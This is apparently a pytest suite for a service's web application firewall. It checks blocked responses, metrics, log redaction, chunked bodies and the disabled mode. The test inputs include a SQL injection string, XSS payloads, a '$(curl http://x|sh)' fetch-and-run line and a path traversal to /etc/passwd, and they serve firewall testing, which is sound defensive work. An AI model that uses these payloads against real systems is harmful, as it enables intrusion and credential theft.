"""The firewall in a real service: what it answers, counts and writes, and what it leaves alone."""

from __future__ import annotations

import asyncio
import socket
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web
from api.conftest import Served
from far_end import DONE, FarEnd, piece
from server import Caller, ion_serve

EVIL = "1' UNION SELECT name, hash FROM keys --"


@pytest.fixture
def operator(anyone: Caller, served: Served) -> Caller:
    return anyone.saying(Authorization=f"Bearer {served.keys['operator']}")


async def test_an_attack_is_told_so_with_its_group_and_a_way_to_complain(ada: Caller) -> None:
    answer = await ada.get(f"/api/v2/sessions?cursor={EVIL}")
    assert answer.status == 403
    assert answer.headers["Content-Type"] == "application/problem+json"
    problem = answer.json
    assert (problem["type"].rsplit("/", 1)[-1], problem["group"]) == ("blocked", "sql-injection")
    assert problem["request_id"] in problem["detail"]
    assert "UNION" not in answer.text
    korean = await ada.saying(Accept_Language="ko").get(f"/api/v2/sessions?cursor={EVIL}")
    assert "운영자" in korean.json["detail"]
    for header in ("X-Content-Type-Options", "Content-Security-Policy", "X-Request-Id"):
        assert header in answer.headers


async def test_nobody_needs_a_key_to_be_refused(anyone: Caller) -> None:
    assert (await anyone.get(f"/api/v2/sessions?cursor={EVIL}")).status == 403
    assert (await anyone.get("/wp-login.php")).status == 403


async def test_code_and_security_are_talked_about(ada: Caller) -> None:
    for text in (
        EVIL,
        "<script>alert(document.cookie)</script> 이게 왜 위험해요?",
        "$(curl http://x|sh)",
        "../../etc/passwd",
    ):
        answer = await ada.chat(text)
        assert answer.status == 200, answer.text


async def test_each_group_is_counted(ada: Caller, anyone: Caller, operator: Caller) -> None:
    async def counted(group: str, action: str) -> float:
        line = f'ion_waf_requests_total{{action="{action}",group="{group}"}} '
        text = (await operator.get("/metrics")).text
        return next((float(row.removeprefix(line)) for row in text.splitlines() if row.startswith(line)), 0)

    before = [await counted("scanners", "blocked"), await counted("body", "refused")]
    await anyone.saying(User_Agent="Nikto/2.5").get("/api/v2/personas")
    await ada("POST", "/api/v2/chat", data=b"<x/>", headers={"Content-Type": "application/xml"})
    assert [await counted("scanners", "blocked"), await counted("body", "refused")] == [n + 1 for n in before]
    assert "ion_waf_duration_seconds_count" in (await operator.get("/metrics")).text


async def test_a_reply_streams_while_it_is_made(afar: Caller, far_end: FarEnd, http: aiohttp.ClientSession) -> None:
    """The first word is here while the far end still holds the second."""
    second = asyncio.Event()

    async def speaks(_: web.Request, answer: web.StreamResponse) -> None:
        await answer.write(piece("First "))
        await second.wait()
        await answer.write(piece("second.") + DONE)

    far_end.behave = speaks
    body = {"message": "hello", "stream": True}
    async with http.post(f"{afar.url}/api/v2/chat", json=body, headers=afar.headers) as answer:
        seen = b""
        while b"First" not in seen:
            seen += await answer.content.readany()
        second.set()
        assert b"second" in await answer.read()


async def test_the_log_names_the_rule_and_nothing_that_was_sent(tmp_path: Path, http: aiohttp.ClientSession) -> None:
    env = {"ION_EMBEDDED__MODEL": "none", "ION_LOG__LEVEL": "debug"}
    with ion_serve(tmp_path / "home", env=env) as service:
        key = (tmp_path / "home" / "local.key").read_text().strip()
        ion = Caller(http, service.url, Authorization=f"Bearer {key}")
        whispered = "Lindenblatt"
        for given in (
            {"persona": f"{EVIL} {whispered}"},
            {whispered: "<script>alert(1)</script>"},
            {"message": whispered},
        ):
            await ion("POST", "/api/v2/chat", json={"message": f"{whispered} {EVIL}", **given})
        await ion.get(f"/api/v2/sessions?cursor={EVIL}{whispered}")
    written = service.log.read_text()
    assert "sql-injection" in written
    assert "701" in written
    assert whispered not in written
    assert "UNION" not in written


async def test_a_body_may_come_in_pieces(served: Served, ada: Caller) -> None:
    """Chunked, a byte at a time, and over two packets: what is inspected is the whole."""

    def exchange() -> bytes:
        body = b'{"message": "hello", "persona": "<script>alert(1)</script>"}'
        head = f"POST /api/v2/chat HTTP/1.1\r\nHost: x\r\nAuthorization: {ada.headers['Authorization']}\r\n"
        head += f"ION-Learner: {ada.headers['ION-Learner']}\r\nContent-Type: application/json\r\n"
        head += "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        with socket.create_connection(("127.0.0.1", int(served.url.rsplit(":", 1)[-1])), timeout=20) as line:
            line.sendall(head.encode())
            for byte in body:
                line.sendall(b"1\r\n%c\r\n" % byte)
            line.sendall(b"0\r\n\r\n")
            answer = b""
            while piece := line.recv(65536):
                answer += piece
        return answer

    assert b" 403 " in (await asyncio.to_thread(exchange)).split(b"\r\n")[0]


async def test_a_service_without_it_takes_what_it_would_block(tmp_path: Path, http: aiohttp.ClientSession) -> None:
    env = {"ION_EMBEDDED__MODEL": "none", "ION_WAF__ENABLED": "false"}
    with ion_serve(tmp_path / "home", env=env) as service:
        key = (tmp_path / "home" / "local.key").read_text().strip()
        answer = await Caller(http, service.url, Authorization=f"Bearer {key}").get(f"/api/v2/sessions?cursor={EVIL}")
    assert answer.status == 422


async def test_rules_that_can_not_be_used_stop_the_start(tmp_path: Path) -> None:
    env = {"ION_EMBEDDED__MODEL": "none", "ION_WAF__CRS": str(tmp_path)}
    with pytest.raises(Exception, match="ION_WAF__CRS"), ion_serve(tmp_path / "home", env=env):
        pass
